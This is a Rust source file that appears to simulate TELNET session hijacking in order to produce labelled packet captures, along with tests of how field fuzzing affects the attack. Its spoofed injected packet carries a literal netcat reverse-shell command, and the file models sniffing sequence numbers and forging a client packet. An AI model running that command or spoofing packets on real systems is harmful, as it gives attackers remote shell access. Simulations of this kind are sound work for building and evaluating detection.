//! TELNET session hijacking testbed.
//!
//! A benign client keeps a TELNET session going; in malicious sessions the
//! attacker sniffs sequence numbers and, while the session is idle, injects
//! a spoofed command packet that starts a reverse shell. Spoof crafting
//! costs extra ticks, which is why the attacker waits for idle gaps.
//! Capture happens at the server.

use rand::Rng as _;

use crate::fuzz::{fuzz_packet, FuzzPlan};
use crate::packet::{FieldPath, LayerKind, Packet};
use crate::rng::Rng;
use crate::sim::commands::pick_command;
use crate::sim::lan::{lab_mac, pool_ip, HostRole, Lan};
use crate::sim::session::{Direction, Mode, PacketRole, Scenario, Session};
use crate::sim::SimError;

/// Commands a benign session executes.
const BENIGN_COMMANDS_PER_SESSION: usize = 3;
/// Client commands before the hijack attempt in malicious sessions.
const COMMANDS_BEFORE_HIJACK: usize = 3;
/// Reverse-shell control packets after a successful hijack.
const POST_SHELL_PACKETS: usize = 3;
/// Client processing delay vs. the attacker's spoof-crafting delay.
const CLIENT_DELAY: u64 = 1;
const ATTACKER_DELAY: u64 = 2;
/// Idle gap the client leaves between commands.
const IDLE_TICKS: u64 = 5;

const REVERSE_SHELL_COMMAND: &[u8] = b"nc -e /bin/sh 10.0.0.4 4444";

pub fn alist() -> Vec<FieldPath> {
    vec![
        FieldPath::new(LayerKind::Ip, "tos"),
        FieldPath::new(LayerKind::Ip, "id"),
        FieldPath::new(LayerKind::Ip, "flags"),
        FieldPath::new(LayerKind::Ip, "ttl"),
        FieldPath::new(LayerKind::Tcp, "src_port"),
        FieldPath::new(LayerKind::Tcp, "dst_port"),
        FieldPath::new(LayerKind::Tcp, "seq"),
        FieldPath::new(LayerKind::Tcp, "ack"),
        FieldPath::new(LayerKind::Tcp, "flags"),
        FieldPath::new(LayerKind::Tcp, "window"),
        FieldPath::new(LayerKind::Tcp, "urgent_ptr"),
    ]
}

/// Six fields survive selection; ports, sequence numbers, and TCP flags
/// break the hijack when randomized.
pub fn accepted_fields() -> Vec<FieldPath> {
    alist()
        .into_iter()
        .filter(|f| {
            !(f.layer == LayerKind::Tcp
                && matches!(f.field.as_str(), "src_port" | "dst_port" | "seq" | "ack" | "flags"))
        })
        .collect()
}

struct Bed {
    lan: Lan,
    server: usize,
    client: usize,
    attacker: usize,
}

fn testbed() -> Bed {
    let mut lan = Lan::new(2, 254);
    let server = lan.add_external_host(HostRole::Server, lab_mac(1), pool_ip(2));
    let client = lan.add_external_host(HostRole::Client, lab_mac(2), pool_ip(3));
    let attacker = lan.add_external_host(HostRole::Attacker, lab_mac(3), pool_ip(4));
    Bed {
        lan,
        server,
        client,
        attacker,
    }
}

struct Conn {
    client_port: u64,
    client_seq: u64,
    server_seq: u64,
    client_ip_id: u64,
    server_ip_id: u64,
}

#[allow(clippy::too_many_arguments)]
fn segment(
    bed: &Bed,
    from: usize,
    to: usize,
    sport: u64,
    dport: u64,
    seq: u64,
    ack: u64,
    ip_id: u64,
    payload: &[u8],
) -> Result<Packet, SimError> {
    let src = bed.lan.host(from);
    let dst = bed.lan.host(to);
    Ok(
        Packet::new(&[LayerKind::Eth, LayerKind::Ip, LayerKind::Tcp, LayerKind::Telnet])?
            .set_int(LayerKind::Eth, "dst_mac", dst.mac)?
            .set_int(LayerKind::Eth, "src_mac", src.mac)?
            .set_int(LayerKind::Ip, "tos", 0)?
            .set_int(LayerKind::Ip, "id", ip_id)?
            .set_int(LayerKind::Ip, "flags", 2)?
            .set_int(LayerKind::Ip, "ttl", 64)?
            .set_int(LayerKind::Ip, "src_ip", src.ip)?
            .set_int(LayerKind::Ip, "dst_ip", dst.ip)?
            .set_int(LayerKind::Tcp, "src_port", sport)?
            .set_int(LayerKind::Tcp, "dst_port", dport)?
            .set_int(LayerKind::Tcp, "seq", seq)?
            .set_int(LayerKind::Tcp, "ack", ack)?
            .set_int(LayerKind::Tcp, "flags", 0x18)?
            .set_int(LayerKind::Tcp, "window", 4096)?
            .set_int(LayerKind::Tcp, "urgent_ptr", 0)?
            .set_bytes(LayerKind::Telnet, "payload", payload.to_vec())?,
    )
}

fn client_command(
    bed: &Bed,
    conn: &mut Conn,
    session: &mut Session,
    command: &str,
    tick: &mut u64,
) -> Result<(), SimError> {
    let p = segment(
        bed,
        bed.client,
        bed.server,
        conn.client_port,
        23,
        conn.client_seq,
        conn.server_seq,
        conn.client_ip_id,
        command.as_bytes(),
    )?
    .finalize()?;
    conn.client_ip_id += 1;
    conn.client_seq = (conn.client_seq + command.len() as u64) & 0xffff_ffff;
    *tick += CLIENT_DELAY;
    session.capture(Direction::C2s, p, *tick, PacketRole::Client);

    let output = format!("done:{command}");
    let r = segment(
        bed,
        bed.server,
        bed.client,
        23,
        conn.client_port,
        conn.server_seq,
        conn.client_seq,
        conn.server_ip_id,
        output.as_bytes(),
    )?
    .finalize()?;
    conn.server_ip_id += 1;
    conn.server_seq = (conn.server_seq + output.len() as u64) & 0xffff_ffff;
    *tick += 1;
    session.capture(Direction::S2c, r, *tick, PacketRole::Server);
    Ok(())
}

pub fn run_session(mode: Mode, id: u64, plan: &FuzzPlan, rng: &mut Rng) -> Result<Session, SimError> {
    let bed = testbed();
    let mut session = Session::new(id, Scenario::Telnet, mode);
    let mut conn = Conn {
        client_port: rng.gen_range(49152..65536),
        client_seq: rng.gen::<u32>() as u64,
        server_seq: rng.gen::<u32>() as u64,
        client_ip_id: 0,
        server_ip_id: 0,
    };
    let mut tick = 0u64;

    let command_count = match mode {
        Mode::Benign => BENIGN_COMMANDS_PER_SESSION,
        Mode::Malicious => COMMANDS_BEFORE_HIJACK,
    };
    for _ in 0..command_count {
        let (cmd, _class) = pick_command(rng);
        client_command(&bed, &mut conn, &mut session, cmd, &mut tick)?;
        tick += IDLE_TICKS;
    }

    if mode == Mode::Malicious {
        // The session is idle; the attacker's sniffed counters are current
        // and the crafting delay fits inside the gap.
        let sniffed_seq = conn.client_seq;
        let sniffed_ack = conn.server_seq;
        let spoof = segment(
            &bed,
            bed.client, // forged addresses: frame claims to be the client
            bed.server,
            conn.client_port,
            23,
            sniffed_seq,
            sniffed_ack,
            conn.client_ip_id,
            REVERSE_SHELL_COMMAND,
        )?;
        let spoof = fuzz_packet(&spoof, plan, rng)?.finalize()?;
        tick += ATTACKER_DELAY;

        // Server-side acceptance: session 4-tuple and exact counters.
        let seq_ok = spoof.get_int(LayerKind::Tcp, "seq") == Some(sniffed_seq)
            && spoof.get_int(LayerKind::Tcp, "ack") == Some(sniffed_ack);
        let port_ok = spoof.get_int(LayerKind::Tcp, "src_port") == Some(conn.client_port)
            && spoof.get_int(LayerKind::Tcp, "dst_port") == Some(23);
        let flags_ok = matches!(spoof.get_int(LayerKind::Tcp, "flags"), Some(0x10) | Some(0x18));
        let accepted = seq_ok && port_ok && flags_ok;

        session.capture(Direction::A2s, spoof, tick, PacketRole::Injected);
        session.set_meta("injected_index", session.packets.len() - 1);

        if accepted {
            conn.client_seq = (conn.client_seq + REVERSE_SHELL_COMMAND.len() as u64) & 0xffff_ffff;
            let r = segment(
                &bed,
                bed.server,
                bed.client,
                23,
                conn.client_port,
                conn.server_seq,
                conn.client_seq,
                conn.server_ip_id,
                b"$",
            )?
            .finalize()?;
            tick += 1;
            session.capture(Direction::S2c, r, tick, PacketRole::Server);

            // Shell traffic runs outside TELNET, straight over TCP.
            session.set_meta("shell_tick", tick);
            for i in 0..POST_SHELL_PACKETS {
                let (from, to, dir, payload) = if i % 2 == 0 {
                    (bed.attacker, bed.server, Direction::A2s, &b"whoami"[..])
                } else {
                    (bed.server, bed.attacker, Direction::S2a, &b"root"[..])
                };
                let src = bed.lan.host(from);
                let dst = bed.lan.host(to);
                let p = Packet::new(&[LayerKind::Eth, LayerKind::Ip, LayerKind::Tcp])?
                    .set_int(LayerKind::Eth, "dst_mac", dst.mac)?
                    .set_int(LayerKind::Eth, "src_mac", src.mac)?
                    .set_int(LayerKind::Ip, "tos", 0)?
                    .set_int(LayerKind::Ip, "id", 100 + i as u64)?
                    .set_int(LayerKind::Ip, "flags", 2)?
                    .set_int(LayerKind::Ip, "ttl", 64)?
                    .set_int(LayerKind::Ip, "src_ip", src.ip)?
                    .set_int(LayerKind::Ip, "dst_ip", dst.ip)?
                    .set_int(LayerKind::Tcp, "src_port", 4444)?
                    .set_int(LayerKind::Tcp, "dst_port", 4444)?
                    .set_int(LayerKind::Tcp, "seq", 1 + i as u64)?
                    .set_int(LayerKind::Tcp, "ack", 1 + i as u64)?
                    .set_int(LayerKind::Tcp, "flags", 0x18)?
                    .set_int(LayerKind::Tcp, "window", 4096)?
                    .set_int(LayerKind::Tcp, "urgent_ptr", 0)?
                    .set_bytes(LayerKind::Tcp, "payload", payload.to_vec())?
                    .finalize()?;
                tick += 1;
                session.capture(dir, p, tick, PacketRole::PostShell);
            }
        }
        session.set_meta("reverse_shell", accepted);
        session.success = accepted;
    } else {
        session.set_meta("reverse_shell", false);
        session.success = true;
    }
    Ok(session)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rng::rng_from;
    use crate::sim::{attack_success, label_sessions, Label};

    #[test]
    fn unfuzzed_hijack_always_succeeds() {
        let plan = FuzzPlan::empty(0);
        for i in 0..50 {
            let mut rng = rng_from(500 + i);
            let s = run_session(Mode::Malicious, i, &plan, &mut rng).unwrap();
            assert!(s.success);
            assert!(attack_success(&s).unwrap());
        }
    }

    #[test]
    fn accepted_fields_keep_the_hijack_alive() {
        let plan = FuzzPlan::new(accepted_fields(), 1).unwrap();
        for i in 0..100 {
            let mut rng = rng_from(600 + i);
            let s = run_session(Mode::Malicious, i, &plan, &mut rng).unwrap();
            assert!(s.success, "iteration {i}");
        }
    }

    #[test]
    fn fuzzing_the_sequence_number_kills_the_hijack() {
        let plan = FuzzPlan::new(vec![FieldPath::new(LayerKind::Tcp, "seq")], 2).unwrap();
        let mut ok = 0;
        for i in 0..100 {
            let mut rng = rng_from(700 + i);
            let s = run_session(Mode::Malicious, i, &plan, &mut rng).unwrap();
            ok += u32::from(s.success);
        }
        assert_eq!(ok, 0);
    }

    #[test]
    fn malicious_captures_always_include_benign_packets() {
        let plan = FuzzPlan::new(accepted_fields(), 3).unwrap();
        for i in 0..20 {
            let mut rng = rng_from(800 + i);
            let s = run_session(Mode::Malicious, i, &plan, &mut rng).unwrap();
            let capture = label_sessions(std::slice::from_ref(&s)).unwrap();
            let labels = &capture.sessions[0].labels;
            assert!(labels.contains(&Label::Benign));
            assert!(labels.contains(&Label::Malicious));
            assert!(labels.contains(&Label::Excluded));
        }
    }

    #[test]
    fn label_counts_match_the_injection_log() {
        let plan = FuzzPlan::empty(0);
        let mut rng = rng_from(900);
        let s = run_session(Mode::Malicious, 0, &plan, &mut rng).unwrap();
        let capture = label_sessions(std::slice::from_ref(&s)).unwrap();
        let labels = &capture.sessions[0].labels;
        let benign = labels.iter().filter(|l| **l == Label::Benign).count();
        let malicious = labels.iter().filter(|l| **l == Label::Malicious).count();
        let excluded = labels.iter().filter(|l| **l == Label::Excluded).count();
        // 3 commands, 1 injected, 3+4 excluded (responses + post-shell).
        assert_eq!(benign, COMMANDS_BEFORE_HIJACK);
        assert_eq!(malicious, 1);
        assert_eq!(excluded, COMMANDS_BEFORE_HIJACK + 1 + POST_SHELL_PACKETS);
        let injected_index: usize = s.meta["injected_index"].parse().unwrap();
        assert_eq!(labels[injected_index], Label::Malicious);
    }
}
